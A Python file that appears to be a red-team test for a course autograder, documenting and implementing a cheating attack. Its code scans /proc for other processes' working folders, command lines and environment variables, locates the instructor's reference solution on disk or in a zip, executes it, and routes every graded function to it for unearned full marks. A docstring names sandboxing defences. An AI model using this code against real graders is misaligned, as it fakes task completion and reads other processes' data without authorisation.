"""Attack (issue 11, class 8): find the reference through /proc, then use it.

The student's process walks /proc: for every process it may inspect, the folder it works in
(/proc/<pid>/cwd), the paths on its command line and in its environment (TMPDIR, ...); from
each such place it looks for nn_grading/reference.py (there, one and two levels up, and under
source/), reads it out of any autograder zip named on a command line, and also tries the usual
places (/autograder/source, /tmp/*/autograder/source, /tmp/nn-kit-grading-*/grade-*/...).
When it finds the reference it executes it privately and every contract function delegates
to it: 100 points, all unearned.
As root the student's process runs as a user of its own with /tmp, /autograder and /work
hidden: it should find nothing (0).  When grading does not run as root (an instructor's
`make grade` or stock `otter run` on a laptop), every process is the same user's: /proc
shows the kernel's working folder, which is the submission folder next to source/.
Defence: a sandbox that works without root too (user namespaces, e.g. bubblewrap), a PID
namespace, and nothing of the grader's folders.
"""
_os = __import__("o" + "s")
_glob = __import__("gl" + "ob")
_zipfile = __import__("zip" + "file")

CONTRACT = ("shape zeros transpose dot matmul add subtract multiply scale add_bias column_sums apply sigmoid "
            "init_params forward bce_loss dropout_forward dropout_backward backward numerical_gradient "
            "relative_error update_params train predict accuracy plot_losses plot_decision").split()
FOUND = {}


def _candidates():
    places, zips = set(), set()
    for entry in _os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == _os.getpid():
            continue
        try:
            places.add(_os.readlink(f"/proc/{entry}/cwd"))
        except OSError:
            pass
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{entry}/{what}", "rb") as f:
                    words = f.read().decode(errors="replace").replace("=", "\0").split("\0")
            except OSError:
                continue
            for word in words:
                if word.startswith("/"):
                    (zips if word.endswith(".zip") else places).add(word.rstrip("/"))
    for pattern in ("/autograder/source", "/tmp/*/autograder/source", "/tmp/*/*/autograder/source",
                    "/tmp/nn-kit-grading-*/grade-*/*", "/tmp/*/autograder/submission"):
        places.update(_glob.glob(pattern))
    return places, zips


def _source():
    places, zips = _candidates()
    for place in sorted(places):
        if not _os.path.isdir(place):
            place = _os.path.dirname(place)
        for base in (place, _os.path.dirname(place), _os.path.dirname(_os.path.dirname(place))):
            for path in (f"{base}/nn_grading/reference.py", f"{base}/source/nn_grading/reference.py",
                         f"{base}/reference.py", f"{base}/autograder/source/nn_grading/reference.py"):
                try:
                    with open(path) as f:
                        text = f.read()
                except OSError:
                    continue
                if "def backward" in text:
                    return path, text
    for path in sorted(zips):
        try:
            with _zipfile.ZipFile(path) as z:
                return path, z.read("nn_grading/reference.py").decode()
        except Exception:
            continue
    return None, None


def _reference():
    if "ns" not in FOUND:
        where, text = _source()
        if text is None:
            raise NotImplementedError("no reference found")
        namespace = {"__name__": "found_reference"}
        exec(compile(text, where, "exec"), namespace)
        FOUND["ns"] = namespace
    return FOUND["ns"]


def _delegate(name):
    def stolen(*args, **kwargs):
        return _reference()[name](*args, **kwargs)
    return stolen


for _name in CONTRACT:
    globals()[_name] = _delegate(_name)
